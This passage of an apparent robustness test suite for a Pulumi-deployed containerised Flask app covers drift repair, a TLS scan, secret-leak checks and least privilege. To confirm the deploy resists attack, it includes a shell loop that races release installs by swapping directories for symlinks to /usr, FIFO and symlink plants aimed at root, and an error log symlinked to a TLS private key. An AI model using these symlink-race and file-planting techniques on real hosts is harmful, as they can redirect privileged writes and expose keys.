      const allowed = ["vm-ssh-check", "vm-state", "vm-ownership", "vm-space", "vm-dirs"];
      assert.deepEqual([...changed].filter((r) => !allowed.includes(r)), [], `the failed up changed more than ${allowed.join(", ")}: ${[...changed].join(", ")}`);
      const after = await s.stack.preview({ onOutput: (o) => (printed += o) });
      assert.deepEqual(Object.entries(after.changeSummary ?? {}).filter(([k]) => k !== "same"), [], JSON.stringify(after.changeSummary));
      await sameCanaries(before, "(12a restoring up)");
      await servesApp();
      return `up refused after ${upS.toFixed(0)} s: "${refusal}"; ${moved} not created; canaries unchanged; links undone, config back: up ran ${[...changed].join(", ") || "nothing"}, preview no changes; 200 "${CHANGED_BODY}"`;
    });

    await step("12b root-owned leftover <hash>.partial planted in releases/ (an older version's install): kept for the next release install (12d), pruning must pass", async () => {
      const before = await canaries();
      // What an older version's root-run install left when interrupted: root's, so the user cannot delete it.
      // The drift rows below re-run the unit deploy, which prunes releases as the user.
      await sh(host, `sudo mkdir -p ${leftover}/sub && sudo touch ${leftover}/sub/x`);
      const owner = (await sh(host, `sudo stat -c '%U %F' ${leftover} ${leftover}/sub/x`)).trim().replace(/\n/g, ", ");
      await sameCanaries(before, "(12b)");
      await servesApp();
      return `${leftover}/sub/x planted (${owner}); canaries unchanged; 200 "${CHANGED_BODY}"`;
    });

    // ---------------------------------------------------------------------------------------------
    // 11 drift: an operator's change on the host; `pulumi up --refresh` (or `pulumi refresh`, then `pulumi up`)
    // finds it and re-runs exactly the commands that repair it; a plain `up` after that changes nothing and
    // logs in nowhere. `ran` is every resource the healing run changed, from the engine's events.
    // `canaries`: the act plants something for root to follow; the canaries must not change. `settle`: what the
    // host must show after the act, before the healing run (its figure joins the row's).
    const drift = (
      name: string,
      act: string,
      want: { found: RegExp[]; ran: (found: string[]) => string[]; back: string; canaries?: boolean; settle?: (u: string) => Promise<string> },
      refreshFirst = false,
    ) =>
      step(`11 drift: ${name}, then ${refreshFirst ? "pulumi refresh + up" : "pulumi up --refresh"} heals it; a plain up runs nothing`, async () => {
        const u = asUserPrefix(user, out.hosts.value.vm.uid);
        const canariesBefore = want.canaries ? await canaries() : "";
        await sh(host, act.replace(/\$u/g, u));
        const settled = want.settle ? `${await want.settle(u)}; ` : "";
        const before = await sessions();
        const ran = new Set<string>();
        const onEvent = (e: EngineEvent) => {
          const m = e.resOutputsEvent?.metadata;
          if (m && !["same", "refresh", "read"].includes(m.op) && m.type !== "pulumi:pulumi:Stack") ran.add(m.urn.split("::").pop()!);
        };
        const t0 = Date.now();
        if (refreshFirst) await s.stack.refresh({ onOutput: (o) => (printed += o) });
        await s.stack.up({ refresh: !refreshFirst, onEvent, onOutput: (o) => (printed += o) });
        const upS = (Date.now() - t0) / 1000;
        const logins = (await sessions()) - before - 1;
        const deployment = (await s.stack.exportStack()).deployment as { resources: { type: string; outputs?: { found?: string[] } }[] };
        const found = deployment.resources.find((r) => r.type.endsWith(":HostState"))?.outputs?.found ?? [];
        log(`drift ${name}: refresh found ${JSON.stringify(found)}; ran ${[...ran].join(", ")}`);
        const res = await httpsGet(url, out.certificatePem.value);
        assert.equal(res.status, 200);
        assert.equal(res.body, CHANGED_BODY);
        await sh(host, want.back.replace(/\$u/g, u));
        for (const re of want.found) assert.ok(found.some((f) => re.test(f)), `the refresh found ${JSON.stringify(found)}, not ${re}`);
        assert.deepEqual([...ran].sort(), want.ran(found).sort(), "what the healing run changed");
        const quiet = await sessions();
        const again = new Set<string>();
        const plain = await s.stack.up({ onEvent: (e) => { const m = e.resOutputsEvent?.metadata; if (m && m.op !== "same") again.add(`${m.op} ${m.urn.split("::").pop()}`); } });
        const plainLogins = (await sessions()) - quiet - 1;
        assert.deepEqual([...again], [], "a plain up after the repair changes nothing");
        assert.equal(plainLogins, 0, "a plain up after the repair logs in nowhere");
        if (want.canaries) await sameCanaries(canariesBefore, `(drift ${name})`);
        return `${settled}found ${JSON.stringify(found)}; ${refreshFirst ? "refresh + up" : "up --refresh"} ${upS.toFixed(0)} s ran ${[...ran].join(", ") || "nothing"} (${logins} SSH logins); 200; back; plain up: ${JSON.stringify(plain.summary.resourceChanges)}, ${plainLogins} logins${want.canaries ? "; canaries unchanged" : ""}`;
      });
    const unitRepair = ["vm-unit", "vm-health"];
    // Four kinds at once (one healing run, so the group stays inside CI's time): each must be found, and the
    // run repairs them together.
    const unitFile = "/opt/flagun/.config/containers/systemd/flagun-web.container";
    // The live configuration version: the refresh reads its files, the repair puts a drifted one back in it.
    const config = await liveConfigDir(host, user);
    await drift(
      "nginx.conf deleted, unit stopped, https socket disabled, Quadlet unit file removed",
      `sudo rm ${config}/nginx.conf && $u systemctl --user stop flagun-web.service && $u systemctl --user disable flagun-web-https.socket && sudo rm ${unitFile}`,
      {
        found: [
          /^nginx\.conf: \/opt\/flagun\/site\/configs\/[0-9a-f]{12}\/nginx\.conf is missing$/,
          /^unit: flagun-web\.service is inactive$/,
          /^unit: flagun-web-https\.socket is active and disabled/,
          /^unit: \/opt\/flagun\/\.config\/containers\/systemd\/flagun-web\.container is missing$/,
        ],
        ran: () => ["vm-config-version", ...unitRepair],
        back:
          `sudo test -s ${config}/nginx.conf && $u systemctl --user is-active --quiet flagun-web.service && ` +
          `[ "$($u systemctl --user is-enabled flagun-web-https.socket)" = enabled ] && sudo test -s ${unitFile}`,
      },
    );
    // A version that cannot start, restarted (app.json names a module that does not exist: what a refused deploy
    // once left in the live files): a crash loop. systemd gives up at the unit's start limit and the socket
    // units fail with it, so clients are refused at once instead of waiting in a queue nothing serves (measured
    // inside the VM: the forwarded port on this machine always accepts); the journal says why. The refresh
    // finds the file and the failed units; the up puts the declared file back and starts the unit again.
    const appJson = `${config}/app.json`;
    await drift("crash loop (app.json names a missing module, unit restarted)", `$u sed -i 's/"module": "[^"]*"/"module": "no_such_module:app"/' ${appJson} && $u systemctl --user restart flagun-web.service`, {
      found: [
        /^app\.json: \/opt\/flagun\/site\/configs\/[0-9a-f]{12}\/app\.json differs from the declared content$/,
        /^unit: flagun-web\.service is failed$/,
        /^unit: flagun-web-https\.socket is failed and enabled, not active and enabled$/,
      ],
      ran: () => ["vm-config-version", ...unitRepair],
      back: "$u systemctl --user is-active --quiet flagun-web.service && $u systemctl --user is-active --quiet flagun-web-https.socket",
      settle: async (u) => {
        // curl's exit status 7: the connection was refused (28 would be a timeout: queued, not served).
        const curl = `curl -sk -o /dev/null --max-time 5 https://127.0.0.1:${ports.https}/; echo $?`;
        const refusedS = await waitFor("connections refused after the crash loop", 900, async () => (await sh(host, curl)).trim() === "7");
        // The service keeps the result of its first failure (exit-code); the sockets say why they stopped.
        const prop = (unit: string, p: string) => sh(host, `${u} systemctl --user show -p ${p} --value ${unit}`).then((r) => r.trim());
        const show = async (unit: string) => `${await prop(unit, "ActiveState")} ${await prop(unit, "Result")}`;
        const [service, https, http] = [await show("flagun-web.service"), await show("flagun-web-https.socket"), await show("flagun-web-http.socket")];
        assert.match(service, /^failed /, "the service is failed, not restarting");
        for (const socket of [https, http]) assert.equal(socket, "failed service-start-limit-hit", "each socket failed with the service's start limit");
        const journal = (await sh(host, "sudo journalctl --no-pager -q -o cat --since=-30min | grep -F 'flagun-web.service: Start request repeated too quickly' | tail -n 1 || true")).trim();
        assert.notEqual(journal, "", "the journal says why");
        return `refused ${refusedS.toFixed(0)} s after the restart; service ${service}, sockets ${https}; journal: "${journal}"`;
      },
    });
    // The rebuild is the one time root's build command runs: the user (the app) plants its build area first,
    // where root once held its lock and copied the context: a FIFO at the lock (an open by root would hang),
    // symlinks at the context and at a tarball beside it (a root copy, chown or truncation would follow them).
    // The image goes with `rmi --no-prune`: its build layers stay, so the heal runs the whole build command
    // (lock, context, podman build) but its steps come from the layer cache; a build from nothing is 2c's
    // (minutes under emulation, proven there once).
    const cache = `/opt/${user}/.cache`;
    const plantBuildArea =
      `$u sh -c 'mkdir -p ${cache} && cd ${cache} && rm -rf flagun-build flagun-build.lock flagun-build.tar && ` +
      "mkfifo flagun-build.lock && ln -s /srv/canary-dir flagun-build && ln -s /var/canary flagun-build.tar'";
    await drift("image removed (unit stopped, podman rmi; build area planted, 12c)", `${plantBuildArea} && $u systemctl --user stop flagun-web.service && $u podman rmi --no-prune ${out.hosts.value.vm.imageRef} >/dev/null`, {
      found: [/^image: image localhost\/flagun-web:[0-9a-f]+ is missing$/],
      ran: () => ["vm-build-stage", "vm-build-copy-Containerfile", "vm-build-copy-container", "vm-build-copy-config-requirements-txt", "vm-build-copy-app-requirements-txt", "vm-build-copy-build-ca-pem", "vm-image", ...unitRepair],
      back: `$u podman image exists ${out.hosts.value.vm.imageRef}`,
      canaries: true,
    }, true);
    await step("12c build area planted (FIFO at the lock, symlinks at the context): the rebuild finished, canaries unchanged", async () => {
      const u = asUserPrefix(user, out.hosts.value.vm.uid);
      const before = await canaries();
      // The drift row above healed with these in place (it checks the image is back); here what is left of them.
      await sh(host, `${u} podman image exists ${out.hosts.value.vm.imageRef}`);
      const left = (await sh(host, `sudo find -P ${cache} -maxdepth 1 -name 'flagun-build*' -printf '%f:%y '`)).trim();
      // Root writes nothing in the user's home: whatever is in ~/.cache is the user's.
      const notUsers = (await sh(host, `sudo find -P ${cache} -xdev ! -user ${user} -printf '%p %u\\n' | head -20`)).trim();
      await sh(host, `${u} sh -c 'cd ${cache} && rm -f flagun-build.lock flagun-build.tar && if [ -L flagun-build ]; then rm flagun-build; fi'`);
      assert.equal(notUsers, "", `root left files in ${cache}`);
      await sameCanaries(before, "(12c)");
      await servesApp();
      return `image rebuilt with the plants in place; left of them (name:type) ${left || "nothing"}, removed; nothing in ${cache} but the user's; canaries unchanged; 200 "${CHANGED_BODY}"`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("7 TLS scan (sslscan on this machine, 127.0.0.1 only)", async () => {
      const scan = execFileSync("sslscan", ["--no-colour", "--show-certificate", `127.0.0.1:${ports.https}`], { encoding: "utf8", timeout: 180000 });
      fs.writeFileSync(path.join(os.tmpdir(), `robust-sslscan-${process.pid}.txt`), scan);
      for (const p of ["SSLv2", "SSLv3", "TLSv1.0", "TLSv1.1"]) assert.match(scan, new RegExp(`${p.replace(".", "\\.")}\\s+disabled`), `${p} must be disabled`);
      for (const p of ["TLSv1.2", "TLSv1.3"]) assert.match(scan, new RegExp(`${p.replace(".", "\\.")}\\s+enabled`), `${p} must be enabled`);
      const accepted = scan.split("\n").filter((l) => /^(Preferred|Accepted)/.test(l));
      for (const l of accepted) log(`sslscan: ${l.replace(/\s+/g, " ")}`);
      assert.ok(accepted.length > 0);
      for (const l of accepted) {
        const cipher = (/bits\s+(\S+)/.exec(l) ?? [])[1] ?? l;
        assert.doesNotMatch(cipher, /RC4|3DES|DES|NULL|EXP|MD5|anon|CBC/, `weak cipher accepted: ${l}`);
        // AEAD only: OpenSSL names CBC+SHA1 suites without "CBC" (e.g. ECDHE-RSA-AES128-SHA).
        assert.match(cipher, /GCM|CHACHA20|CCM/, `non-AEAD cipher accepted: ${l}`);
      }
      const sans = firstLine(scan, /DNS:|IP Address:/);
      log(`sslscan SANs: ${sans}`);
      assert.match(scan, /DNS:localhost/);
      assert.match(scan, /IP Address:127\.0\.0\.1/);
      assert.match(scan, new RegExp(`DNS:${san.dns.replace(/\./g, "\\.")}`));
      assert.match(scan, new RegExp(`IP Address:${san.ip.replace(/\./g, "\\.")}`));
      const compression = firstLine(scan, /Compression (dis|en)abled/);
      const reneg = firstLine(scan, /(secure|session) .*renegotiation/i);
      const ciphers = accepted.map((l) => (/bits\s+(\S+)/.exec(l) ?? [])[1]).join(" ");
      return `SSLv2/3, TLS1.0/1.1 disabled; TLS1.2/1.3 enabled; ${accepted.length} suites: ${ciphers}; SANs: ${sans}; ${compression}; ${reneg}`;
    });

    await step("5 secrets never in clear: state, up/preview output, podman inspect, unit files, journal", async () => {
      const u = asUserPrefix(user, out.hosts.value.vm.uid);
      const appSecret = (await sh(host, `${u} podman exec flagun-web cat /run/secrets/app_secret_key`)).trim();
      assert.ok(appSecret.length >= 32, "the app secret is mounted in the container");
      const pemBody = (pem: string) => pem.split("\n").filter((l) => l && !l.startsWith("-----")).join("");
      const needles: [string, string][] = [
        ["app secret", appSecret],
        ["TLS key", pemBody(await sh(host, `sudo cat /opt/${user}/site/config/tls/key.pem`)).slice(0, 40)],
        ["SSH key", pemBody(host.privateKey).slice(0, 40)],
        ["appSecrets value", ROBUST_TOKEN],
      ];
      const places: [string, string][] = [
        ["state", readTree(s.stateDir)],
        ["up/preview output", printed],
        ["podman inspect, secret inspect, unit files", await sh(host, `${u} sh -c 'podman inspect flagun-web; podman secret ls -q | xargs podman secret inspect; find ~/.config/containers/systemd ~/.config/systemd/user -type f -exec cat {} +'`)],
        ["journal", await sh(host, "sudo journalctl --no-pager -o cat")],
        ["logs", await sh(host, "sudo sh -c 'cat /var/log/flagun-web/*/*.log'")],
      ];
      for (const [what, needle] of needles) for (const [where, text] of places) assert.ok(!text.includes(needle), `${what} in ${where}`);
      return `${needles.length} secrets x ${places.length} places (${places.map(([w, t]) => `${w} ${Math.round(t.length / 1024)} KiB`).join(", ")}): 0 hits`;
    });

    await step("6 least privilege: key 0600 of the user, no password, no sudo, nothing of ours as root, no caps", async () => {
      assert.equal((await sh(host, `sudo stat -c '%a %U' /opt/${user}/site/config/tls/key.pem`)).trim(), `600 ${user}`);
      assert.equal((await sh(host, `sudo stat -c '%a %U' /opt/${user}`)).trim(), `700 ${user}`);
      assert.equal((await sh(host, `getent passwd ${user} | cut -d: -f7`)).trim(), "/usr/sbin/nologin");
      assert.match(await sh(host, `sudo passwd -S ${user}`), new RegExp(`^${user} L `));
      assert.match((await host.run(`sudo sudo -l -U ${user}`)).stdout, /not allowed/);
      const procs = (await sh(host, "ps -eo user:32,args")).split("\n").filter((l) => /podman|conmon|nginx|gunicorn|flagun|pasta|rootlessport|catatonit/.test(l) && !/ps -eo/.test(l));
      assert.ok(procs.length > 0);
      for (const p of procs) assert.ok(p.startsWith(user), `runs as ${p.split(/\s+/)[0]}: ${p}`);
      const inspect = (await sh(host, `${asUserPrefix(user, out.hosts.value.vm.uid)} podman inspect --format '{{.EffectiveCaps}} {{.HostConfig.SecurityOpt}} {{.HostConfig.ReadonlyRootfs}}' flagun-web`)).trim();
      assert.match(inspect, /^\[\] .*no-new-privileges.* true$/);
      return `key 600 ${user}, home 700, shell nologin, password locked, no sudo; ${procs.length} processes, all ${user}; caps/secopt/read-only root: ${inspect}`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("2d SSH dropped while a config-change up runs (ssh restart + ss -K); the next up converges", async () => {
      // `systemctl restart ssh` alone keeps established sessions (ssh.service has KillMode=process), so the
      // in-flight commands would not notice; `ss -K` then closes every established TCP connection to port 22
      // in the guest. Run by systemd-run so it outlives the SSH session that starts it.
      await sh(host, "printf '%s\\n' 'systemctl restart ssh' 'sleep 2' \"ss -K -t state established '( sport = :22 )' > /var/tmp/robust-sskill.txt 2>&1\" > /tmp/robust-drop.sh");
      await s.stack.setConfig("clientMaxBodySize", { value: "20m" });
      let text = "";
      let trigger = "";
      let drop: Promise<unknown> | undefined;
      log("pulumi up (config change) with SSH dropped mid-run");
      const first = await s.stack
        .up({
          onOutput: (o) => {
            text += o;
            const m = /command:remote:\w+ (vm-\S+) (updating|creating|replacing|deleting)/.exec(text);
            if (!drop && m) {
              trigger = `${m[1]} ${m[2]}`;
              drop = host.run("sudo systemd-run --quiet --collect --unit robust-drop sh /tmp/robust-drop.sh");
            }
          },
        })
        .then(
          (r) => `first up succeeded ${JSON.stringify(r.summary.resourceChanges)}`,
          (e: Error) => `first up failed: ${firstLine(e.message, /error:/) || e.message.slice(0, 140)}`,
        );
      await drop;
      assert.ok(trigger, "SSH was dropped during the up");
      await new Promise((r) => setTimeout(r, 3000));
      const killed = Math.max(0, Number((await sh(host, "sudo tail -n +2 /var/tmp/robust-sskill.txt | grep -c . || true")).trim()));
      log(`${first}; drop triggered at '${trigger}', ss -K closed ${killed} connections`);
      const up2 = await s.stack.up();
      const res = await httpsGet(url, out.certificatePem.value);
      assert.equal(res.status, 200);
      assert.equal(res.body, CHANGED_BODY);
      // nginx.conf's directive (gunicorn.conf.py names it in a comment: a grep of the whole directory would
      // depend on the order its filesystem lists the files in).
      const conf = await sh(host, `sudo grep -h '^ *client_max_body_size ' ${await liveConfigDir(host, user)}/nginx.conf`);
      assert.match(conf, /client_max_body_size 20m;/);
      const after = await s.stack.preview();
      const changes = Object.entries(after.changeSummary ?? {}).filter(([k]) => k !== "same");
      assert.deepEqual(changes, [], JSON.stringify(after.changeSummary));
      return `drop at '${trigger}', ${killed} TCP connections closed; ${first}; next up ${JSON.stringify(up2.summary.resourceChanges)}; then 200, client_max_body_size 20m, preview no changes`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("12d release install raced: .partial swapped for a symlink to /usr in a loop for the whole step; canaries untouched, the old version serves", async () => {
      const u = asUserPrefix(user, out.hosts.value.vm.uid);
      const before = await canaries();
      assert.equal((await sh(host, `sudo stat -c %U ${leftover}/sub/x`)).trim(), "root", "12b's leftover is there before this release install");
      const main = path.join(s.workDir, "flask_app", "main.py");
      const good = fs.readFileSync(main, "utf8");
      const stop = "/tmp/robust-race-stop";
      // As the user, for at most 400 s: every real directory named *.partial* in releases/ is swapped for a
      // symlink to /usr. Its own (the install's build directory) stays swapped, moved aside; one it does not
      // own (12b's leftover, or a build directory an older version made as root) is put back at once: moved
      // elsewhere, root's cleanup would no longer find it and the user could not delete it.
      const racer = [
        // The clock only every 500 rounds: a fork per round would leave the install's fraction of a second
        // unraced. The stop file every round (a builtin test, no fork): a round that swaps 12b's leftover back
        // forks four times, and 500 of those outlast the test's wait for the racer to stop on a slow day.
        "end=$(($(date +%s) + 400)); n=0",
        `while [ ! -e ${stop} ]; do`,
        `  n=$((n + 1)); if [ $n -ge 500 ]; then n=0; [ "$(date +%s)" -lt "$end" ] || break; fi`,
        `  for p in ${releases}/*.partial* ${releases}/.*.partial*; do`,
        '    case "$p" in *.aside) continue ;; esac',
        '    [ -d "$p" ] && [ ! -L "$p" ] || continue',
        '    if [ -O "$p" ]; then',
        '      mv "$p" "$p.aside" 2>/dev/null && ln -s /usr "$p" 2>/dev/null',
        "    else",
        '      mv "$p" "$p.aside" 2>/dev/null && { ln -s /usr "$p" 2>/dev/null; rm -f "$p"; mv "$p.aside" "$p" 2>/dev/null; }',
        "    fi",
        "  done",
        "done",
      ].join("\n");
      // A file, not a command line: systemd expands ${...} in a unit's command line.
      await sh(
        host,
        `echo ${Buffer.from(racer).toString("base64")} | base64 -d | sudo tee /tmp/robust-race.sh >/dev/null && sudo rm -f ${stop} && ` +
          `sudo systemd-run --quiet --collect --unit robust-race --uid=${user} sh /tmp/robust-race.sh`,
      );
      assert.equal((await host.run("systemctl is-active --quiet robust-race")).code, 0, "the racer is not running");
      fs.writeFileSync(main, `raise RuntimeError("raced release")\n${good}`);
      let outcome: string | null = null;
      let upS = 0;
      try {
        log("pulumi up (app change) with the user racing the release install");
        const t0 = Date.now();
        let timer: NodeJS.Timeout | undefined;
        const up = s.stack.up({ onOutput: (o) => (printed += o) }).then(
          () => "",
          (e: Error) => e.message || String(e),
        );
        outcome = await Promise.race([up, new Promise<null>((r) => (timer = setTimeout(() => r(null), 600 * 1000)))]);
        clearTimeout(timer);
        upS = (Date.now() - t0) / 1000;
      } finally {
        fs.writeFileSync(main, good);
        await sh(host, `sudo touch ${stop}`);
        await waitFor("the racer stopped", 120, async () => (await host.run("systemctl is-active --quiet robust-race")).code !== 0).catch(async (e) => {
          await host.run("sudo systemctl stop robust-race");
          throw e;
        });
        await sh(host, `sudo rm -f ${stop} /tmp/robust-race.sh`);
      }
      assert.notEqual(outcome, null, "the up did not settle within 600 s");
      assert.notEqual(outcome, "", "the raced broken release was deployed");
      const failed = outcome ?? "";
      const where = /deploy refused/.test(failed) ? "at the check" : "at the install";
      const shown = withoutScripts(failed);
      const cause = firstLine(shown, /deploy refused/) || firstLine(shown, /release \S+: /) || firstLine(shown, /error: /);
      // What the race left in releases/: the racer's links (named *.partial*) and the directories it moved aside.
      const links = (await sh(host, `sudo find -P ${releases} -mindepth 1 -maxdepth 1 -type l -printf '%f -> %l\\n'`)).trim().split("\n").filter(Boolean);
      const asides = (await sh(host, `sudo find -P ${releases} -mindepth 1 -maxdepth 1 -name '*.aside' -printf '%f\\n'`)).trim().split("\n").filter(Boolean);
      const notUsers = (await sh(host, `sudo find -P ${releases} -mindepth 1 -maxdepth 1 ! -user ${user} -printf '%f %u\\n'`)).trim().split("\n").filter(Boolean);
      const leftoverNow = await host.run(`sudo stat -c '%F %U' ${leftover}`);
      await host.run(`${u} find -P ${releases} -mindepth 1 -maxdepth 1 \\( -type l -o -name '*.aside' \\) -exec rm -rf {} +`);
      const remaining = (await sh(host, `sudo find -P ${releases} -mindepth 1 -maxdepth 1 \\( -type l -o -name '*.aside' \\) -printf '%f %u\\n'`)).trim();
      // A release name (not the racer's) that is a symlink: the install renamed a link into place.
      assert.deepEqual(links.filter((l) => !l.split(" -> ")[0].includes(".partial")), [], "a release in releases/ is a symlink");
      assert.deepEqual(notUsers.filter((l) => !l.startsWith(`${path.basename(leftover)} `)), [], "root-owned entries in releases/ besides 12b's leftover");
      // Root removes the leftover unless the race showed it only the racer's link at that moment; then it is
      // still root's directory at its own name, for the next release install (row 10 checks it is gone).
      const leftoverState = leftoverNow.code === 0 ? leftoverNow.stdout.trim() : "gone";
      assert.ok(["gone", "directory root"].includes(leftoverState), `12b's leftover after the raced install: ${leftoverState}`);
      assert.equal(remaining, "", "the racer's links and moved directories could not all be removed as the user");
      await sameCanaries(before, "(12d)");
      await servesApp();
      return `up failed ${where} after ${upS.toFixed(0)} s: "${cause}"; racer's links ${links.length}, moved-aside dirs ${asides.length} (removed as the user); no release a symlink; 12b's leftover: ${leftoverState === "gone" ? "removed" : "root's, still at its name (the race hid it)"}; canaries (/usr, /usr/bin included) unchanged; 200 "${CHANGED_BODY}"`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("10 broken app deploy (import error; app module, env, a rotated app secret, a gunicorn setting and the image changed with it), then again with gunicorn's error.log a symlink to the TLS key: up fails naming the cause, the key never shown, the old version serves throughout and after a restart and a reboot, its files and secrets as they were", async () => {
      const main = path.join(s.workDir, "flask_app", "main.py");
      const good = fs.readFileSync(main, "utf8");
      // The app's own requirements.txt is part of the image: a comment-only one is a new image tag whose build
      // reuses every layer but the app's requirements step (it installs nothing).
      const appRequirements = path.join(s.workDir, "flask_app", "requirements.txt");
      assert.ok(!fs.existsSync(appRequirements), "the placeholder app has no requirements.txt");
      const u = asUserPrefix(user, out.hosts.value.vm.uid);
      const liveImage = async () => (await sh(host, `${u} podman inspect -f '{{.ImageName}}' flagun-web`)).trim();
      const imageBefore = await liveImage();
      const imagesBefore = (await sh(host, `${u} podman images --format '{{.Repository}}:{{.Tag}}'`)).trim().split("\n");
      const unitState = () => sh(host, `${u} sh -c 'cat ~/.config/containers/systemd/flagun-web.container; systemctl --user show -p MainPID -p NRestarts flagun-web.service'`);
      const unitBefore = await unitState();
      const before = await canaries();
      const errorLog = "/var/log/flagun-web/gunicorn/error.log";
      const keyFile = `/opt/${user}/site/config/tls/key.pem`;
      const hashesBefore = await liveVersionHashes(host, user);
      // The new version also changes what the app and gunicorn read at start: a refused deploy once left these
      // live, and the next restart ran the old code under the new module name (a crash loop).
      const settings: ConfigMap = {
        appModule: { value: "main:flask_app_v2" },
        appEnv: { value: JSON.stringify({ ROBUST_MARK: "v2" }) },
        appSecrets: { value: JSON.stringify({ ROBUST_TOKEN: `${ROBUST_TOKEN}-rotated` }), secret: true },
        timeoutSeconds: { value: "45" },
      };
      const settingsBefore = new Map<string, ConfigValue | undefined>();
      for (const k of Object.keys(settings)) settingsBefore.set(k, await s.stack.getConfig(k).catch(() => undefined));
      // The secrets the running container reads: their Podman names (a value's version) and the values in it.
      const secretsIn = async () => {
        const names = (await sh(host, `${u} podman inspect -f '{{range .Config.Secrets}}{{.Name}} {{end}}' flagun-web`)).trim();
        const token = (await sh(host, `${u} podman exec flagun-web cat /run/secrets/env/ROBUST_TOKEN`)).trim();
        return { names, token };
      };
      const secretsBefore = await secretsIn();
      assert.equal(secretsBefore.token, ROBUST_TOKEN, "the running version reads the appSecrets value");
      await s.stack.setAllConfig(settings);
      fs.writeFileSync(main, `raise RuntimeError("broken on purpose by the robustness test")\n${good}`);
      fs.writeFileSync(appRequirements, "# robustness row 10: a new image for the broken version\n");
      let first = "";
      let second = "";
      let third = "";
      try {
        log("pulumi up (broken app) under load");
        const t0 = Date.now();
        const { result, load } = await underLoad(url, out.certificatePem.value, () => s.stack.up({ onOutput: (o) => (printed += o) }));
        const { bodies, failures } = load;
        assert.equal(result.status, "rejected", "the broken deploy must fail");
        const msg = String((result as PromiseRejectedResult).reason?.message ?? result);
        assert.match(msg, /deploy refused: the new version did not pass its health check/);
        const upS = (Date.now() - t0) / 1000;
        assert.match(msg, /RuntimeError: broken on purpose by the robustness test/, "the error names the cause (the app's traceback)");
        const res = await httpsGet(url, out.certificatePem.value);
        assert.equal(res.body, CHANGED_BODY, "the old version still serves");
        assert.deepEqual(failures, [], "no request failed while the broken version was refused");
        assert.ok(bodies.length > 0 && bodies.every((b) => b === CHANGED_BODY), "only the old body was served");
        const unitAfter = await unitState();
        assert.equal(unitAfter, unitBefore, "the running unit was not touched (same file, same process, no restart)");
        const imagesNow = (await sh(host, `${u} podman images --format '{{.Repository}}:{{.Tag}}'`)).trim().split("\n");
        const imageRefused = imagesNow.filter((i) => !imagesBefore.includes(i)).join(" ");
        assert.match(imageRefused, /^[^ ]+:[0-9a-f]+$/, `the refused version's image was built beside the live ${imageBefore}: ${imagesNow.join(", ")}`);
        assert.equal(await liveImage(), imageBefore, "the running container's image is the one from before");
        assert.equal((await sh(host, `${u} podman ps -a --format '{{.Names}}'`)).trim(), "flagun-web", "no candidate or standby left behind");
        // A release install with no racer: root's leftover from 12b is gone now, whatever 12d's race left of it.
        assert.equal((await host.run(`sudo test -e ${leftover} || sudo test -L ${leftover}`)).code, 1, `${leftover} is still there after a release install`);
        first = `up failed after ${upS.toFixed(0)} s: "${firstLine(msg, /deploy refused/)}", cause shown: "${firstLine(msg, /RuntimeError/)}"; its image ${imageRefused.split(":").pop()} built beside the live ${imageBefore.split(":").pop()}; during it ${bodies.length + failures.length} requests, ${failures.length} failed, all "${CHANGED_BODY}"; unit file, MainPID, NRestarts unchanged; 12b's leftover gone`;

        // The same deploy again (it failed, so it runs again), with the app's error log a symlink to the TLS key:
        // the key is the user's own file, so only the excerpt's check on the open file refuses it. The standby's
        // gunicorn cannot open its error log through this link (the key's host path is not in the container),
        // so its traceback is not shown this time: the first deploy showed it.
        const key = await sh(host, `sudo cat ${keyFile}`);
        const slices = key
          .split("\n")
          .filter((l) => l && !l.startsWith("-----"))
          .flatMap((l) => Array.from({ length: Math.max(0, l.length - 23) }, (_, i) => l.slice(i, i + 24)));
        assert.ok(slices.length > 0, "the key has base64 lines");
        await sh(host, `${u} sh -c 'mv ${errorLog} ${errorLog}.real && ln -s ${keyFile} ${errorLog}'`);
        let msg2 = "";
        let up2S = 0;
        let load2 = { bodies: [] as string[], failures: [] as string[] };
        try {
          log("pulumi up (broken app again) with gunicorn's error.log a symlink to the TLS key, under load");
          const t1 = Date.now();
          const r = await underLoad(url, out.certificatePem.value, () => s.stack.up({ onOutput: (o) => (printed += o) }));
          up2S = (Date.now() - t1) / 1000;
          load2 = r.load;
          assert.equal(r.result.status, "rejected", "the broken deploy must fail again");
          msg2 = String((r.result as PromiseRejectedResult).reason?.message ?? r.result);
        } finally {
          await sh(host, `${u} sh -c 'if [ -L ${errorLog} ]; then rm ${errorLog} && mv ${errorLog}.real ${errorLog}; fi'`);
        }
        assert.match(msg2, /deploy refused: the new version did not pass its health check/);
        const refused = lineNaming(msg2, errorLog, /not shown|refus|not a regular file|symlink/i);
        assert.ok(refused, `the excerpt of ${errorLog} must be refused, naming the path: ${withoutScripts(msg2).slice(-3000)}`);
        // The words with the scripts left out (the deploy script's own redaction pattern names them); the key's
        // text everywhere (no script carries it: it travels through stdin).
        for (const [where, text] of [["the up's error", msg2], ["up/preview output", printed]]) {
          assert.ok(!withoutScripts(text).includes("PRIVATE KEY"), `"PRIVATE KEY" in ${where}: ${firstLine(withoutScripts(text), /PRIVATE KEY/)}`);
          assert.equal(slices.find((x) => text.includes(x)), undefined, `a 24-character slice of the TLS key in ${where}`);
        }
        assert.deepEqual(load2.failures, [], "no request failed while the broken version was refused again");
        assert.ok(load2.bodies.length > 0 && load2.bodies.every((b) => b === CHANGED_BODY), "only the old body was served");
        assert.equal(await unitState(), unitBefore, "the running unit was not touched by the second deploy either");
        assert.equal((await sh(host, `${u} podman ps -a --format '{{.Names}}'`)).trim(), "flagun-web", "no candidate or standby left behind");
        second = `up failed after ${up2S.toFixed(0)} s: "${refused}"; key ("PRIVATE KEY", ${slices.length} 24-character slices) in neither the error nor the output; ${load2.bodies.length + load2.failures.length} requests, ${load2.failures.length} failed; unit unchanged`;

        // A refusal leaves nothing a restart would pick up: restarted now, the unit runs the version that served.
        const unitFile = (state: string) => state.split("\n").filter((l) => !/^(MainPID|NRestarts)=/.test(l)).join("\n");
        await sh(host, `${u} systemctl --user restart flagun-web.service`);
        const backS = await waitFor("serving after a restart that follows the refusals", 300, async () => (await httpsGet(url, out.certificatePem.value)).status === 200);
        assert.equal((await httpsGet(url, out.certificatePem.value)).body, CHANGED_BODY, "after a restart: the version that was serving");
        assert.equal(unitFile(await unitState()), unitFile(unitBefore), "the unit file is the one from before the refusals");
        const hashesAfter = await liveVersionHashes(host, user);
